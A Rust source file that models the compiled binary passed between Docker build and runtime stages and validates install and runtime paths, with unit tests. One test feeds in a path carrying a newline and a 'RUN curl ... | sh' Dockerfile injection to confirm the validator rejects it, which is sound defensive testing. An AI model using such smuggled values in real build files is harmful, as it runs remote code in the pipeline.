//! The compiled artifact handed from the build stage to the runtime stage
//!
//! The artifact is the only file that crosses the stage boundary. Its paths
//! are derived purely from configuration so every build of an unchanged
//! source tree resolves to the same locations.

use std::path::{Component, Path, PathBuf};
use thiserror::Error;

/// Name of the executable produced by `cargo install`
pub const ARTIFACT_NAME: &str = "eps_server";

/// Cargo install root inside the builder image
pub const DEFAULT_INSTALL_ROOT: &str = "/usr/local/cargo";

/// Directory the artifact is copied into in the runtime image
pub const DEFAULT_RUNTIME_DIR: &str = "/usr/local/bin";

/// Errors raised when an artifact definition is unusable
#[derive(Error, Debug, Clone, PartialEq, Eq)]
pub enum ArtifactError {
    #[error("Artifact name must not be empty")]
    EmptyName,

    #[error("Artifact name '{0}' is not a single file name (allowed: letters, digits, '_', '-', '.')")]
    InvalidName(String),

    #[error("{field} must be an absolute path, got '{path}'")]
    RelativePath { field: &'static str, path: String },

    #[error("{field} must not contain whitespace or control characters, got {path:?}")]
    UnsafePath { field: &'static str, path: String },
}

/// The single executable produced by the build stage
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CompiledArtifact {
    name: String,
    install_root: PathBuf,
    runtime_dir: PathBuf,
}

impl Default for CompiledArtifact {
    fn default() -> Self {
        Self::new(ARTIFACT_NAME)
    }
}

impl CompiledArtifact {
    pub fn new(name: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            install_root: PathBuf::from(DEFAULT_INSTALL_ROOT),
            runtime_dir: PathBuf::from(DEFAULT_RUNTIME_DIR),
        }
    }

    /// Override the cargo install root of the builder image
    pub fn with_install_root(mut self, root: impl Into<PathBuf>) -> Self {
        self.install_root = root.into();
        self
    }

    /// Override the directory the artifact lands in at runtime
    pub fn with_runtime_dir(mut self, dir: impl Into<PathBuf>) -> Self {
        self.runtime_dir = dir.into();
        self
    }

    pub fn name(&self) -> &str {
        &self.name
    }

    pub fn install_root(&self) -> &Path {
        &self.install_root
    }

    /// Where `cargo install --path .` leaves the executable in the builder
    pub fn build_path(&self) -> PathBuf {
        self.install_root.join("bin").join(&self.name)
    }

    /// Where the executable lives in the runtime image (and the entrypoint)
    pub fn runtime_path(&self) -> PathBuf {
        self.runtime_dir.join(&self.name)
    }

    pub fn validate(&self) -> Result<(), ArtifactError> {
        validate_name(&self.name)?;
        validate_container_path("install_root", &container_path(&self.install_root))?;
        validate_container_path("runtime_dir", &container_path(&self.runtime_dir))?;
        Ok(())
    }
}

fn validate_name(name: &str) -> Result<(), ArtifactError> {
    if name.is_empty() {
        return Err(ArtifactError::EmptyName);
    }
    let allowed = name
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'));
    if !allowed || name == "." || name == ".." {
        return Err(ArtifactError::InvalidName(name.to_string()));
    }
    Ok(())
}

/// Check a path that is written verbatim into a Dockerfile instruction
///
/// Dockerfile instructions are line- and whitespace-delimited, so a path
/// must be a single absolute token without `..` components.
pub(crate) fn validate_container_path(
    field: &'static str,
    path: &str,
) -> Result<(), ArtifactError> {
    if path.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err(ArtifactError::UnsafePath {
            field,
            path: path.to_string(),
        });
    }
    // Container paths are always POSIX, so check the leading character
    // rather than trusting the host platform's notion of absolute.
    let is_absolute = path.starts_with('/')
        && !Path::new(path)
            .components()
            .any(|c| matches!(c, Component::ParentDir));
    if is_absolute {
        Ok(())
    } else {
        Err(ArtifactError::RelativePath {
            field,
            path: path.to_string(),
        })
    }
}

/// Render a container path with forward slashes
pub(crate) fn container_path(path: &Path) -> String {
    path.to_string_lossy().replace('\\', "/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_artifact_paths() {
        let artifact = CompiledArtifact::default();
        assert_eq!(artifact.name(), "eps_server");
        assert_eq!(
            container_path(&artifact.build_path()),
            "/usr/local/cargo/bin/eps_server"
        );
        assert_eq!(
            container_path(&artifact.runtime_path()),
            "/usr/local/bin/eps_server"
        );
        assert!(artifact.validate().is_ok());
    }

    #[test]
    fn paths_are_deterministic() {
        let first = CompiledArtifact::default();
        let second = CompiledArtifact::default();
        assert_eq!(first.build_path(), second.build_path());
        assert_eq!(first.runtime_path(), second.runtime_path());
    }

    #[test]
    fn custom_roots_are_respected() {
        let artifact = CompiledArtifact::new("eps_server")
            .with_install_root("/opt/cargo")
            .with_runtime_dir("/app");
        assert_eq!(
            container_path(&artifact.build_path()),
            "/opt/cargo/bin/eps_server"
        );
        assert_eq!(container_path(&artifact.runtime_path()), "/app/eps_server");
    }

    #[test]
    fn rejects_bad_names() {
        assert_eq!(
            CompiledArtifact::new("").validate(),
            Err(ArtifactError::EmptyName)
        );
        assert!(matches!(
            CompiledArtifact::new("bin/eps").validate(),
            Err(ArtifactError::InvalidName(_))
        ));
        assert!(matches!(
            CompiledArtifact::new("..").validate(),
            Err(ArtifactError::InvalidName(_))
        ));
        assert!(matches!(
            CompiledArtifact::new("eps server").validate(),
            Err(ArtifactError::InvalidName(_))
        ));
    }

    #[test]
    fn rejects_relative_roots() {
        let err = CompiledArtifact::default()
            .with_runtime_dir("usr/local/bin")
            .validate()
            .unwrap_err();
        assert!(matches!(
            err,
            ArtifactError::RelativePath {
                field: "runtime_dir",
                ..
            }
        ));

        let err = CompiledArtifact::default()
            .with_install_root("/usr/../cargo")
            .validate()
            .unwrap_err();
        assert!(matches!(
            err,
            ArtifactError::RelativePath {
                field: "install_root",
                ..
            }
        ));
    }

    #[test]
    fn rejects_paths_that_would_split_instructions() {
        let err = CompiledArtifact::default()
            .with_runtime_dir("/opt/my app")
            .validate()
            .unwrap_err();
        assert!(matches!(
            err,
            ArtifactError::UnsafePath {
                field: "runtime_dir",
                ..
            }
        ));

        let err = CompiledArtifact::default()
            .with_install_root("/usr/local/cargo\nRUN curl http://example.invalid | sh")
            .validate()
            .unwrap_err();
        assert!(matches!(
            err,
            ArtifactError::UnsafePath {
                field: "install_root",
                ..
            }
        ));

        assert!(validate_container_path("runtime_dir", "/usr/local/bin\t").is_err());
        assert!(validate_container_path("runtime_dir", "/usr/local/bin\u{7}").is_err());
        assert!(validate_container_path("runtime_dir", "/usr/local/bin").is_ok());
    }
}
